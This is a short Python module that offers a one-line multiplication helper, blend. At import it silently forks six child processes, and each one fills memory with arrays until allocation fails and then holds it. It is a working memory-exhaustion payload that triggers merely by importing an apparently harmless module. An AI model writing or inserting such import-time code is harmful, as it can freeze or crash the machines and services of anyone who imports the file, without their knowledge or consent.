# Forks at import, and has each process fill as much memory as a single one may.
import os
import time

import numpy as np

for _ in range(6):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                kept.append(np.ones(1 << 20))
        except MemoryError:
            time.sleep(60)


def blend(x, y):
    return x * y
